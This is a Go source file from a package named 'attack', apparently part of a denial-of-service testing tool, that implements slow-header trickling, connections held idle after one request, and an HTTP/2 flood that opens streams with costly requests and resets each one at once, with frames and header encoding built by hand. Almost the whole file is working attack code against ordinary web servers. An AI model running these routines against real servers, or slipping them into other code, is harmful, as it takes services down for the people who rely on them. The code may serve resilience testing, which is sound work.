package attack

import (
	"bytes"
	"net"
	"time"
)

// trickling sends a byte of headers a second.
func trickling(*attacker) func(net.Conn) {
	return func(conn net.Conn) {
		conn.Write([]byte("GET /"))
		dripping(conn, func() error {
			_, err := conn.Write([]byte("x"))
			return err
		})
	}
}

// idling asks once, with a token, and keeps the connection.
func idling(a *attacker) func(net.Conn) {
	request := a.request(pointTarget)
	return func(conn net.Conn) {
		conn.Write(request)
		dripping(conn, func() error { return nil })
	}
}

// Types of frames, RFC 9113, 6.
const (
	frameHeaders  = 1
	frameReset    = 3
	frameSettings = 4
	frameWindow   = 8
)

// frame is a frame of HTTP/2.
type frame struct {
	kind, flags byte
	stream      uint32
	payload     string
}

func (f frame) append(to []byte) []byte {
	n := len(f.payload)
	to = append(to, byte(n>>16), byte(n>>8), byte(n), f.kind, f.flags, byte(f.stream>>24), byte(f.stream>>16), byte(f.stream>>8),
		byte(f.stream))
	return append(to, f.payload...)
}

// overHTTP2 opens streams with an expensive request each, and ends each with a frame: one that resets it, or one for which the
// server has to, while it still works on the request.
func overHTTP2(end frame) func(*attacker) func(net.Conn) {
	return func(a *attacker) func(net.Conn) {
		headers := string(a.fields(combTarget))
		return func(conn net.Conn) {
			out := frame{kind: frameSettings}.append([]byte("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"))
			for stream := uint32(1); ; stream += 2 {
				out = frame{frameHeaders, endStream | endHeaders, stream, headers}.append(out)
				if end.kind != frameSettings {
					end.stream = stream
				}
				out = end.append(out)
				if _, err := conn.Write(out); err != nil {
					time.Sleep(10 * time.Millisecond) // connections are limited too
					return
				}
				out = out[:0]
			}
		}
	}
}

const endStream, endHeaders = 1, 4

// fields are the header fields of a request, none of them compressed (RFC 7541, 6.2.2).
func (a *attacker) fields(target string) []byte {
	var out bytes.Buffer
	text := func(s string) {
		if n := len(s); n < 127 {
			out.WriteByte(byte(n))
		} else {
			out.WriteByte(127)
			for n -= 127; n >= 128; n >>= 7 {
				out.WriteByte(byte(n) | 128)
			}
			out.WriteByte(byte(n))
		}
		out.WriteString(s)
	}
	for _, field := range [][2]string{{":method", "GET"}, {":scheme", "http"}, {":path", target}, {":authority", a.addr},
		{"authorization", "Bearer " + a.token}} {
		out.WriteByte(0)
		text(field[0])
		text(field[1])
	}
	return out.Bytes()
}
